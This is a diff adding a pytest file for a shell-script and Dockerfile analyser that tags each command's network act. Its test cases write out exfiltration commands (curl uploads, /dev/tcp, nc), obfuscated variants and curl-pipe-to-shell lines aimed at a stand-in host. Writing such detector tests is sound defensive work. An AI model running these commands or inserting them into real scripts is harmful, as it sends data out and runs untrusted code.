@@ -1,0 +1,147 @@
+"""What the reader of shell scripts says of each command."""
+
+from __future__ import annotations
+
+import time
+
+import pytest
+
+from rempart.meaning.findings import INSTRUCTIONS, Act, Document, Finding, Form, Image, Sign, Spot, Unread, Value
+from rempart.meaning.readers.dockerfile import read_dockerfile
+from rempart.meaning.readers.shell import read_commands, read_shell
+
+
+def found(script: str) -> list[Finding]:
+    return list(read_shell(script, Spot()))
+
+
+def acts(script: str) -> set[tuple[str, Act | None]]:
+    return {(item.text, item.spot.act) for item in found(script) if isinstance(item, Value)}
+
+
+@pytest.mark.parametrize(
+    ("script", "text", "act"),
+    [
+        ("curl -fsS https://a.fr/x", "https://a.fr/x", Act.FETCHES),
+        ("curl -T/data/x https://a.fr/x", "https://a.fr/x", Act.SENDS),
+        ("curl -sXPOST https://a.fr/x", "https://a.fr/x", Act.SENDS),
+        ("curl -d@f --url https://a.fr/x", "https://a.fr/x", Act.SENDS),
+        ("//usr/bin/curl --json {} https://a.fr/x", "https://a.fr/x", Act.SENDS),
+        ("sudo -u x env A=b timeout 3 curl -F a=@b https://a.fr", "https://a.fr", Act.SENDS),
+        ("c''u\"rl\" -T f https://a.fr", "https://a.fr", Act.SENDS),
+        ("sh -c 'wget --post-file=/d https://a.fr'", "https://a.fr", Act.SENDS),
+        ('su - app -c "git push https://a.fr/x.git"', "https://a.fr/x.git", Act.SENDS),
+        ("find /data -name x -exec curl -T {} https://a.fr \\;", "https://a.fr", Act.SENDS),
+        ("X=a.fr; curl -T f https://$X/", "https://a.fr/", Act.SENDS),
+        ("X=aZfr; curl -T f https://${X/Z/.}/", "https://a.fr/", Act.SENDS),
+        ("X=$(echo YS5mcg== | base64 -d); curl -T f https://$X", "https://a.fr", Act.SENDS),
+        ("for h in a.fr b.fr; do curl -T f $h; done", "b.fr", Act.SENDS),
+        ('send() { curl -T f "$1"; }\nsend https://a.fr', "https://a.fr", Act.SENDS),
+        ("eval \"$(echo 'curl -T f https://a.fr')\"", "https://a.fr", Act.SENDS),
+        ("cat /d > /dev/tcp/a.fr/443", "a.fr:443", Act.SENDS),
+        ("rsync -a /d u@a.fr:/in", "u@a.fr:/in", Act.SENDS),
+        ("rsync -a u@a.fr:/out /d", "u@a.fr:/out", Act.FETCHES),
+        ("dig x.a.fr", "x.a.fr", Act.SENDS),
+        ("ip tunnel add t mode gre remote 3.3.3.3 local 10.0.0.1", "3.3.3.3", Act.CONNECTS),
+        ("storescu -c AE@a.fr:104 f.dcm", "AE@a.fr:104", Act.SENDS),
+        ("unheard-of a.fr", "a.fr", Act.CONNECTS),
+        ("echo see https://a.fr", "https://a.fr", Act.REFERS),
+        ("hostnamectl set-hostname a.fr", "a.fr", Act.NAMES),
+        ("certbot -d a.fr", "a.fr", Act.NAMES),
+        ("case $1 in x) curl -T f https://a.fr;; esac", "https://a.fr", Act.SENDS),
+        ("echo aGk= | nc a.fr 80", "a.fr", Act.SENDS),
+    ],
+)
+def test_an_address_has_the_act_of_its_command(script: str, text: str, act: Act) -> None:
+    assert (text, act) in acts(script)
+
+
+@pytest.mark.parametrize(
+    "script",
+    [
+        "curl -s https://a.fr/i | sh",
+        "bash <(curl -s https://a.fr/i)",
+        'bash -c "$(curl -s https://a.fr/i)"',
+        "curl -o /tmp/i https://a.fr/i\nsh /tmp/i",
+        "wget https://a.fr/i; chmod +x i; ./i",
+        "source <(curl https://a.fr/i)",
+        "kubectl apply -f https://a.fr/i",
+    ],
+)
+def test_what_is_fetched_and_run_is_instructions(script: str) -> None:
+    keys = {item.spot.key for item in found(script) if isinstance(item, Value) and item.text == "https://a.fr/i"}
+
+    assert INSTRUCTIONS in keys
+
+
+@pytest.mark.parametrize(
+    ("script", "key", "text"),
+    [
+        ("H=b.fr\ncat > /etc/a.conf <<EOF\nhost=$H\nEOF\n", "/etc/a.conf", "host=b.fr\n"),
+        ("cat <<'EOF' | tee /etc/a.conf\nhost=$H\nEOF\n", "/etc/a.conf", "host=$H\n"),
+        ("echo x > /etc/a", "/etc/a", "x\n"),
+        ("printf '%s\\n' a b | sudo tee -a /etc/a", "/etc/a", "a\nb\n"),
+    ],
+)
+def test_what_is_written_to_a_file_is_a_text_under_its_name(script: str, key: str, text: str) -> None:
+    assert (key, text) in {(item.spot.key, item.text) for item in found(script) if isinstance(item, Document)}
+
+
+def test_a_program_in_another_language_is_code() -> None:
+    documents = [item for item in found("python3 - <<EOF\nprint(1)\nEOF\n") if isinstance(item, Document)]
+
+    assert [(item.text, item.form) for item in documents] == [("print(1)\n", Form.CODE)]
+
+
+@pytest.mark.parametrize("script", ["base64 -d /data/x | sh", "gpg -d x | bash", "openssl enc -d -aes256 -k p | sh"])
+def test_what_cannot_be_computed_and_is_run_is_told(script: str) -> None:
+    assert any(isinstance(item, Unread) for item in found(script))
+
+
+def test_only_commands_that_may_connect_are_signs() -> None:
+    names = [item.name for item in found("cd /x; aws s3 ls; case $1 in gcloud) ls;; esac") if isinstance(item, Sign)]
+
+    assert names == ["aws"]
+
+
+def test_images_are_fetched_and_pushed() -> None:
+    images = {
+        (item.reference, item.spot.act)
+        for item in found("docker run -d -p 80:80 -e A=b q.io/x:1 sh -c true; docker --config x push g.io/y")
+        if isinstance(item, Image)
+    }
+
+    assert images == {("q.io/x:1", Act.FETCHES), ("g.io/y", Act.SENDS)}
+
+
+def test_commands_of_one_script_share_their_variables() -> None:
+    values = [item.text for item in read_commands(["X=a.fr", "curl -T f $X"], Spot()) if isinstance(item, Value)]
+
+    assert values.count("a.fr") == 2
+
+
+def test_a_dockerfile_has_bases_and_commands() -> None:
+    text = (
+        'ARG R=q.io\nFROM $R/x:1 AS b\nRUN curl \\\n  https://a.fr\nFROM b\nCMD ["curl", "-T", "f", "https://b.fr"]\n'
+    )
+    findings = list(read_dockerfile(text, Spot()))
+
+    assert [item.reference for item in findings if isinstance(item, Image)] == ["q.io/x:1"]
+    assert [item.form for item in findings if isinstance(item, Document)] == [Form.SHELL, Form.SHELL]
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "(" * 10_000, "$(" * 20_000, "$(" * 10_000 + ")" * 10_000, "${" * 20_000, '"' * 50_001, "'" * 50_001, "`" * 50_001,
+        "a=(" * 20_000, "cat <<A\n" * 20_000, "a | " * 50_000, "<" * 200_000, "{{" * 100_000, "\\" * 200_000,
+        "case x in " * 5_000, "f() { " * 20_000, '"$(`${\'<<E ' * 10_000, bytes(range(1, 256)).decode("latin-1") * 500,
+        "a{b,c}" * 1_000, "f() { f; f; }; f",
+    ],
+    ids=range(19),
+)  # fmt: skip
+def test_hostile_scripts_are_read_to_their_end(text: str) -> None:
+    begun = time.process_time()
+    found(text)
+
+    assert time.process_time() - begun < 5
